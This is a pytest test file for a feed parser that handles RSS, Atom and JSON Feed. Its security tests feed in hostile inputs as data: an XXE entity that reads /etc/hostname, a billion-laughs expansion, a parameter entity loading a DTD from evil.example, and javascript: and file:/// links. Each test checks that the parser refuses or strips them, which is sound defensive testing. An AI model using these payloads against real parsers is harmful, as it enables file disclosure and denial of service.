"""RSS, Atom and JSON Feed, well formed and not."""

import json
from datetime import UTC, datetime

import pytest

from sayso.errors import BadSource
from sayso.feeds.syndication import MOST_ITEMS, parse_feed

NOW = datetime(2024, 12, 1, 12, tzinfo=UTC)
AT = "https://wire.example/rss.xml"


def rss(*items: str, before: str = "") -> bytes:
    body = "".join(f"<item>{i}</item>" for i in items)
    return f'<?xml version="1.0"?>{before}<rss version="2.0"><channel><title>Wire</title>{body}</channel></rss>'.encode()


def test_an_rss_item_has_link_title_and_date() -> None:
    (item,) = parse_feed(
        rss(
            "<guid>7</guid><title>Vodny falls</title><link>/a?utm_source=rss&amp;id=1</link>"
            "<pubDate>Sat, 30 Nov 2024 12:00:00 +0200</pubDate><description>Words</description>"
        ),
        AT,
        NOW,
    ).items
    assert item.url == "https://wire.example/a?utm_source=rss&id=1"
    assert item.key == "https://wire.example/a?id=1"
    assert (item.title, item.guid, item.html) == (
        "Vodny falls",
        "https://wire.example/7",
        "Words",
    )
    assert item.published == datetime(2024, 11, 30, 10, tzinfo=UTC)


def test_an_atom_entry_keeps_both_its_dates() -> None:
    feed = b"""<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="ar"><title>Wire</title><entry><id>urn:1</id>
      <title>T</title><link href="https://wire.example/1"/><published>2024-11-30T10:00:00Z</published>
      <updated>2024-11-30T11:00:00Z</updated><content type="html">&lt;p&gt;Hi&lt;/p&gt;</content></entry></feed>"""
    (item,) = parse_feed(feed, AT, NOW).items
    assert item.published is not None and item.updated is not None
    assert item.published < item.updated
    assert (item.language, item.html) == ("ar", "<p>Hi</p>")


def test_a_json_feed_is_read() -> None:
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Wire",
        "items": [
            {"id": 5, "url": "/five", "title": "T", "content_text": "a < b",
             "date_published": "2024-11-30T10:00:00+02:00"},
            "no object",
        ],
    }  # fmt: skip
    found = parse_feed(json.dumps(feed).encode(), AT, NOW)
    (item,) = found.items
    assert (item.url, item.guid, item.html) == ("https://wire.example/five", "5", "<p>a &lt; b</p>")
    assert found.warnings == ("1 items are no objects",)


def test_a_truncated_feed_gives_what_it_has_and_a_warning() -> None:
    whole = rss("<title>A</title><link>https://wire.example/1</link>", "<title>B</title>")
    found = parse_feed(whole[:-40], AT, NOW)
    assert found.items[0].url == "https://wire.example/1"
    assert "malformed" in found.warnings[0]


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (b"<html><body>Not found</body></html>", "no feed"),
        (b"", "no feed"),
        (b"\x89PNG\r\n\x1a\n", "no feed"),
        (b'{"version": 1}', "no JSON Feed"),
        (b'{"version": ', "no JSON"),
    ],
    ids=["page", "empty", "image", "json", "broken-json"],
)
def test_what_is_no_feed_is_refused(raw: bytes, why: str) -> None:
    with pytest.raises(BadSource, match=why):
        parse_feed(raw, AT, NOW)


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY x "&b;&b;&b;">]>',
        '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
    ],
    ids=["xxe", "laughs", "parameter"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_unread(declared: str, encoding: str) -> None:
    raw = rss("<title>&x;</title>", before=declared).decode().encode(encoding)
    with pytest.raises(BadSource, match="entities"):
        parse_feed(raw, AT, NOW)


def test_a_date_to_come_is_left_out_and_told() -> None:
    found = parse_feed(
        rss("<link>https://e.example/1</link><pubDate>Sat, 30 Nov 2030 10:00:00 GMT</pubDate>"),
        AT,
        NOW,
    )
    assert found.items[0].published is None
    assert "still to come (2030-11-30)" in found.warnings[0]


def test_an_id_that_is_no_address_makes_none() -> None:
    (item,) = parse_feed(rss("<guid>17</guid><title>T</title>"), AT, NOW).items
    assert (item.url, item.key) == (None, item.guid)


def test_an_id_that_is_an_address_is_the_link() -> None:
    (item,) = parse_feed(rss("<guid>https://e.example/a?b=1&amp;c=2</guid>"), AT, NOW).items
    assert item.url == "https://e.example/a?b=1&c=2"


def test_other_schemes_are_no_links() -> None:
    items = parse_feed(
        rss("<title>a</title><link>javascript:alert(1)</link>", "<title>b</title><link>file:///etc/passwd</link>"),
        AT,
        NOW,
    ).items  # fmt: skip
    assert [i.url for i in items] == [None, None]


def test_scripts_do_not_come_through() -> None:
    (item,) = parse_feed(
        rss(
            "<title>a</title><description>&lt;p&gt;x&lt;script&gt;y&lt;/script&gt;&lt;/p&gt;</description>"
        ),
        AT,
        NOW,
    ).items
    assert item.html == "<p>x</p>"


def test_a_deleted_entry_is_a_retraction() -> None:
    feed = b"""<feed xmlns="http://www.w3.org/2005/Atom" xmlns:at="http://purl.org/atompub/tombstones/1.0">
      <title>W</title><at:deleted-entry ref="urn:1" when="2024-11-30T10:00:00Z"/></feed>"""
    (item,) = parse_feed(feed, AT, NOW).items
    assert item.retracted
    assert item.guid == "urn:1"


def test_a_feed_without_end_is_cut() -> None:
    raw = rss(*(f"<link>https://e.example/{n}</link>" for n in range(MOST_ITEMS + 5)))
    found = parse_feed(raw, AT, NOW)
    assert len(found.items) == MOST_ITEMS
    assert f"only the first {MOST_ITEMS}" in found.warnings[0]


def test_a_feed_in_another_charset_by_http() -> None:
    raw = "<rss version='2.0'><channel><item><title>Водный</title></item></channel></rss>".encode(
        "cp1251"
    )
    found = parse_feed(raw, AT, NOW, {"content-type": "application/xml; charset=windows-1251"})
    assert found.items[0].title == "Водный"


def test_the_version_follows_what_is_said() -> None:
    one, same, other = (
        parse_feed(rss(f"<link>https://e.example/1</link><title>{t}</title>"), AT, NOW).items[0]
        for t in ("A", "A", "B")
    )
    assert one.version == same.version != other.version
